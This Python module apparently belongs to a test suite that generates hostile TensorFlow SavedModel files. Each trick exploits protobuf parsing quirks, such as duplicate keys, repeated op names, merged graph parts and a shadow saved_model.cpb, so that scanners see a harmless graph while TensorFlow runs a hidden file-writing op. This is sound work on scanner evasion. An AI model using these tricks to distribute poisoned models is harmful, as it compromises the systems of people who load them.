"""Graphs written so that a reader may see another graph than TensorFlow does."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from tensorflow.core.framework import node_def_pb2
from tensorflow.core.protobuf import saved_model_pb2

from hostile.attacks import ATTACK, ATTACKS, Targets
from hostile.graphs import (
    FLOAT,
    INIT_SIGNATURE,
    INT32,
    Body,
    Function,
    add_output,
    append_to_graph,
    attr_entry,
    attr_value,
    base_model,
    doubling_model,
    field,
    serialize,
    set_init_op,
    varint,
)
from hostile.hiding_places import PLACES, hostile_function
from hostile.model_files import Model
from hostile.tricks import trick
from hostile.writing_attacks import write_file


def _writes(targets: Targets) -> Any:
    """Return a MetaGraph whose output writes a file."""
    return PLACES["control_edge"].hide(ATTACKS["WriteFile"], targets).metas[0]


def _case_node(targets: Targets) -> tuple[Any, Any]:
    """Return a MetaGraph without its last node, y, and that node: a Case without branches."""
    meta = base_model()
    hostile_function(meta, ATTACKS["WriteFile"], targets)
    hostile_function(meta, None, targets, "good")
    graph = Body(meta.graph_def)
    graph.const("index", 0, INT32)
    graph.add("y", "Case", "index", "mul", Tin=[FLOAT], Tout=[FLOAT])
    add_output(meta, "y:0")
    node = node_def_pb2.NodeDef()
    node.CopyFrom(meta.graph_def.node.pop())
    return meta, node


def _oneof(*values: Any) -> Callable[[Targets], Model]:
    """Return a trick that writes the branches of a Case several times into one AttrValue."""

    def build(targets: Targets) -> Model:
        meta, node = _case_node(targets)
        value = b"".join(bytes(value.SerializeToString()) for value in values)
        raw = node.SerializeToString() + attr_entry(b"branches", value)
        return Model(raw=append_to_graph(meta, field(1, raw)))

    return build


_GOOD_LIST = attr_value(["good", "good"], "list(func)")
_EVIL_LIST = attr_value(["evil", "good"], "list(func)")
_GOOD_FUNCTION, _EVIL_FUNCTION = attr_value(Function("good")), attr_value(Function("evil"))
trick("oneof_function_then_hostile_list")(_oneof(_GOOD_FUNCTION, _EVIL_LIST))
trick("oneof_good_list_then_hostile_list")(_oneof(_GOOD_LIST, _EVIL_LIST))
trick("oneof_hostile_list_function_list")(_oneof(_EVIL_LIST, _GOOD_FUNCTION, _GOOD_LIST))
trick("oneof_list_then_number_then_list")(_oneof(_GOOD_LIST, attr_value(1), _EVIL_LIST))


@trick()
def attribute_key_twice(targets: Targets) -> Model:
    """TensorFlow keeps the last of two entries with one key."""
    meta, node = _case_node(targets)
    entries = [attr_entry(b"branches", v.SerializeToString()) for v in (_GOOD_LIST, _EVIL_LIST)]
    raw = node.SerializeToString() + b"".join(entries)
    return Model(raw=append_to_graph(meta, field(1, raw)))


@trick()
def attribute_value_twice(targets: Targets) -> Model:
    """An entry has two values, which are merged."""
    meta, node = _case_node(targets)
    values = [field(2, v.SerializeToString()) for v in (_GOOD_FUNCTION, _EVIL_LIST)]
    raw = node.SerializeToString() + field(5, field(1, b"branches") + b"".join(values))
    return Model(raw=append_to_graph(meta, field(1, raw)))


@trick()
def function_name_twice(targets: Targets) -> Model:
    """A NameAttrList has two names; the last counts."""
    meta = base_model()
    hostile_function(meta, ATTACKS["WriteFile"], targets)
    hostile_function(meta, None, targets, "good")
    Body(meta.graph_def).add(
        "y", "StatefulPartitionedCall", "mul", Tin=[FLOAT], Tout=[FLOAT], f="good"
    )
    add_output(meta, "y:0")
    node = meta.graph_def.node.pop()
    value = field(10, field(1, b"good") + field(1, b"evil"))
    raw = node.SerializeToString() + attr_entry(b"f", value)
    return Model(raw=append_to_graph(meta, field(1, raw)))


@trick()
def op_name_twice(targets: Targets) -> Model:
    """A node's op is written twice; the last counts."""
    meta = _writes(targets)
    nodes = meta.graph_def.node
    index = next(i for i, node in enumerate(nodes) if node.name == ATTACK)
    node = nodes[index]
    raw = field(1, ATTACK.encode()) + field(2, b"NoOp") + field(2, b"WriteFile")
    raw += b"".join(field(3, name.encode()) for name in node.input)
    del nodes[index]
    return Model(raw=append_to_graph(meta, field(1, raw)))


@trick()
def graph_in_two_parts(targets: Targets) -> Model:
    """The graph is written twice, and the parts are merged."""
    meta = doubling_model(after=ATTACK)
    other = base_model().graph_def
    other.Clear()
    write_file(Body(other), targets)
    return Model(raw=append_to_graph(meta, other.SerializeToString()))


@trick()
def library_in_two_parts(targets: Targets) -> Model:
    """The function that attacks is in a second library, which is merged with the first."""
    meta = PLACES["function"].hide(ATTACKS["WriteFile"], targets).metas[0]
    library = meta.graph_def.library.SerializeToString()
    meta.graph_def.ClearField("library")
    hostile_function(meta, None, targets, "good")
    return Model(raw=append_to_graph(meta, field(2, library)))


@trick()
def meta_graph_of_a_later_version(targets: Targets) -> Model:
    """Unknown fields, groups and packed numbers surround the graph."""
    meta = _writes(targets)
    unknown = field(999, b"\xff" * 20) + varint(998 << 3) + varint(7)
    content = unknown + meta.SerializeToString() + unknown
    return Model(
        raw=field(77, b"x") + b"\x08\x01" + field(2, content) + varint(50 << 3 | 0) + b"\0"
    )


@trick()
def signature_twice(targets: Targets) -> Model:
    """The signature is written twice: with the good output, then with the hostile one."""
    meta = _writes(targets)
    Body(meta.graph_def).add("good", "Identity", "mul", T=FLOAT)
    hostile = meta.signature_def["serving_default"].SerializeToString()
    add_output(meta, "good:0")
    entry = field(5, field(1, b"serving_default") + field(2, hostile))
    return Model(raw=b"\x08\x01" + field(2, meta.SerializeToString() + entry))


@trick()
def init_op_twice(targets: Targets) -> Model:
    """The signature of the init op is written twice; the last has the attack."""
    meta = doubling_model()
    write_file(Body(meta.graph_def), targets)
    Body(meta.graph_def).add("nothing", "NoOp")
    set_init_op(meta, ATTACK)
    hostile = meta.signature_def[INIT_SIGNATURE].SerializeToString()
    set_init_op(meta, "nothing")
    entry = field(5, field(1, INIT_SIGNATURE.encode()) + field(2, hostile))
    return Model(raw=b"\x08\x01" + field(2, meta.SerializeToString() + entry))


@trick()
def names_that_are_not_utf8(targets: Targets) -> Model:
    return Model(raw=serialize(doubling_model()).replace(b"two", b"t\xff\xfe"))


@trick()
def chunked_model_beside_it(targets: Targets) -> Model:
    """TensorFlow prefers saved_model.cpb, which no reader of saved_model.pb sees."""
    return Model((doubling_model(),), {"saved_model.cpb": serialize(_writes(targets))})


@trick()
def text_model_beside_it(targets: Targets) -> Model:
    text = f"{saved_model_pb2.SavedModel.FromString(serialize(_writes(targets)))}"
    return Model((doubling_model(),), {"saved_model.pbtxt": text.encode()})


@trick()
def attribute_map_without_keys(targets: Targets) -> Model:
    """Entries of a map without key or value."""
    meta = _writes(targets)
    node = node_def_pb2.NodeDef(name="odd", op="NoOp")
    raw = (
        node.SerializeToString()
        + field(5, b"")
        + field(5, field(1, b"k"))
        + field(5, field(2, b""))
    )
    return Model(raw=append_to_graph(meta, field(1, raw)))
